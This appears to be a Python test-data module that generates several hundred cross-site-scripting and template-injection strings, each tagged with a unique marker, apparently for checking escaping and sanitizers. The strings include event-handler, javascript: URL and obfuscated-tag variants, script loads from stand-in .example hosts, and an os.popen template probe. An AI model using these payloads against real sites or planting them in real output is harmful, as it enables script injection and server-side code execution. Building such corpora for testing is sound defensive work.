"""Texts that run where they are not escaped: tags, handlers, addresses, templates, markdown, broken encodings. 500 and more.

Each bears a word of its own, ``gtx17x``, so that a live node can be traced to its payload. Made here; nothing is downloaded.
"""

from __future__ import annotations

_CALL = "alert(`{m}`)"
_BASES = (
    "<script>{c}</script>", "<script src=//{m}.example></script>", "<img src=x onerror={c}>", "<img src={m} onload={c}>",
    "<svg onload={c}>", "<svg><script>{c}</script></svg>", "<svg><a xlink:href=javascript:{c}><text>{m}</text></a></svg>",
    "<body onload={c}>", "<iframe src=javascript:{c}></iframe>", "<iframe srcdoc='<script>{c}</script>'></iframe>",
    "<object data=javascript:{c}></object>", "<embed src=javascript:{c}>", "<a href=javascript:{c}>{m}</a>",
    "<a href='data:text/html,<script>{c}</script>'>{m}</a>", "<form action=javascript:{c}><button>{m}</button></form>",
    "<button formaction=javascript:{c}>{m}</button>", "<input autofocus onfocus={c}>", "<details open ontoggle={c}>{m}</details>",
    "<video><source onerror={c}></video>", "<audio src=x onerror={c}></audio>", "<marquee onstart={c}>{m}</marquee>",
    "<math><mtext><img src=x onerror={c}></mtext></math>", "<style>@import '//{m}.example';</style>",
    "<div style='background:url(javascript:{c})'>{m}</div>", "<link rel=stylesheet href=//{m}.example>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>", "<base href=//{m}.example/>", "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>", "<textarea></textarea><script>{c}</script>", "</textarea><script>{c}</script>",
    "</title><script>{c}</script>", "--><script>{c}</script>", "]]><script>{c}</script>", "\"><script>{c}</script>", "'><script>{c}</script>",
    "\" onmouseover=\"{c}", "' onmouseover='{c}", "` onmouseover=`{c}", "\" autofocus onfocus=\"{c}", "x\" style=\"color:red\" {m}=\"",
    "javascript:{c}", "jaVasCript:{c}", "java\tscript:{c}", "data:text/html;base64,{m}", "vbscript:{c}",
    "{{{{ 7331*7 }}}} {m}", "{{% import os %}}{{{{ os.popen('{m}') }}}}", "${{7331*7}} {m}", "#{{7331*7}} {m}", "<%= 7331*7 %> {m}",
    "{{{{ ''.__class__.__mro__ }}}} {m}", "{{{{config}}}} {m}", "[{m}](javascript:{c})", "![{m}](x\" onerror=\"{c})", "<{m}@example.org>",
    "<<script>{c}//<</script>", "<scr<script>ipt>{c}</scr</script>ipt>", "<img/src=x/onerror={c}//", "<svg/onload={c}", "<x onclick={c}>{m}",
    "<custom-{m} tabindex=1 onfocus={c} autofocus>", "&lt;script&gt;{c}&lt;/script&gt;", "&#60;script&#62;{c}&#60;/script&#62;", "%3Cscript%3E{c}%3C/script%3E",
    "\\u003cscript\\u003e{c}\\u003c/script\\u003e", "＜script＞{c}＜/script＞", "<script\u2028>{c}</script>", "<\u200bscript>{c}</script>", "=HYPERLINK(\"javascript:{c}\")",
)  # fmt: skip


def _shapes(text: str) -> tuple[str, ...]:
    """The ways in which one text is tried: as it is, loud, after a close, in words, twice, with breaks, bare and quoted."""
    return (
        text, text.replace("script", "ScRiPt").replace("img", "IMG"), f'"/>{text}', f"He said: {text} and left.", text + text,
        text.replace(">", "\n>", 1), text.replace(" ", "/", 1), f"'{text}'",
    )  # fmt: skip


def payloads() -> list[str]:
    """Every payload, each with its own mark, none the same."""
    made: dict[str, None] = {}
    for base in _BASES:
        for shape in range(8):
            mark = f"gtx{len(made)}x"
            made[_shapes(base.format(c=_CALL.format(m=mark), m=mark))[shape]] = None
    return list(made)
